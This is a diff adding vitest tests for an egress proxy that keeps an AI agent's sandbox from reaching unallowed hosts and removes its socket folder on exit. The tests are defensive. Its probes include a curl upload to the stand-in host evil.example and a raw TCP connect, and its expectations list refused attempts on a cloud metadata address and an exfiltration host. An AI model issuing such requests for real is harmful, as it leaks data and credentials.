@@ -9,9 +9,11 @@
  * proxy holds the model key: a preset's CLI (a stand-in `claude`) gets a placeholder, the model
  * API (the fake model server) gets the real key, and the key is nowhere in the sandbox.
  */
-import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
-import { join } from "node:path";
+import type { ChildProcess } from "node:child_process";
+import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { dirname, join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { until } from "../support/budget.js";
 import { greeting, startStandIn, type StandIn } from "../support/egress-hosts.js";
 import { startFakeModelServer } from "../support/fake-model-server.js";
 import { BOT, FULL_NAME, reports, startScenario, type Scenario } from "../support/scenario.js";
@@ -112,6 +114,57 @@ describe("an agent on the default network (allowlist)", () => {
       "**Network:** the agent tried to reach `evil.example` (refused 4×), `127.0.0.1` (refused 1×), `169.254.169.254` (refused 1×), `verify-exfil.example` (refused 1×); allow a host with `allowed-domains`;",
     );
     expect(tracking()).not.toContain("network open");
+  });
+});
+
+/** The proxy's socket as the job log names it (`sandbox: … the proxy's socket: <path> (removed when the run ends)`). */
+const socketOf = (stdout: string) => /the proxy's socket: (\S+) \(removed when the run ends\)/.exec(stdout)?.[1] ?? "";
+
+describe("the egress proxy on any runner", () => {
+  it("works with a RUNNER_TEMP of 150 characters: the round runs, the agent reaches only allowed hosts, the socket's folder is gone after", async () => {
+    const runnerTemp = join(scenario.dir, "t".repeat(150 - scenario.dir.length - 1));
+    mkdirSync(runnerTemp);
+    expect(runnerTemp).toHaveLength(150);
+    const run = await scenario.run({
+      rounds: {
+        1: {
+          run: [
+            probe("http-allowed", `curl -s http://allowed.example:${standIn.httpPort}/deep`),
+            probe("https-refused", "curl -sk -o /dev/null -w '%{http_connect}' https://evil.example/upload"),
+            probe("tcp-raw", `node -e 'require("net").connect(443, "1.1.1.1").on("error", (e) => console.log(e.code))'`),
+          ],
+          files: { "add.js": FIXED },
+          report: reports.complete("fixed add()"),
+        },
+      },
+      inputs: { "allowed-domains": "allowed.example" },
+      env: { ...resolver(), RUNNER_TEMP: runnerTemp },
+    });
+    expect(run.outputs.outcome, run.stderr + run.stdout.slice(-2000)).toBe("complete");
+    expect(read("probes").trim().split("\n")).toEqual([
+      `http-allowed ${greeting("allowed.example", "http").trim()}`,
+      "https-refused 403",
+      "tcp-raw ENETUNREACH",
+    ]);
+    expect(roundComment(1)).toContain("**Network:** the agent tried to reach `evil.example` (refused 1×)");
+    const socket = socketOf(run.stdout);
+    expect(socket).toMatch(/^\/tmp\/ralph-egress-[^/]+\/proxy\.sock$/);
+    expect(existsSync(dirname(socket))).toBe(false);
+  });
+
+  it("removes the socket's folder when the action exits after a SIGTERM", async () => {
+    let child: ChildProcess | undefined;
+    const live = scenario.run({
+      rounds: { 1: { files: { "NOTES.md": "working\n" }, waitFor: "never", report: reports.continue("working") } },
+      onStart: (started) => (child = started),
+    });
+    await until(async () => (await scenario.agentLog()).length === 1, 30_000);
+    child?.kill("SIGTERM");
+    const run = await live;
+    expect(run.outputs.outcome, run.stderr).toBe("cancelled");
+    const socket = socketOf(run.stdout);
+    expect(socket).toMatch(/^\/tmp\/ralph-egress-[^/]+\/proxy\.sock$/);
+    expect(existsSync(dirname(socket))).toBe(false);
   });
 });
 
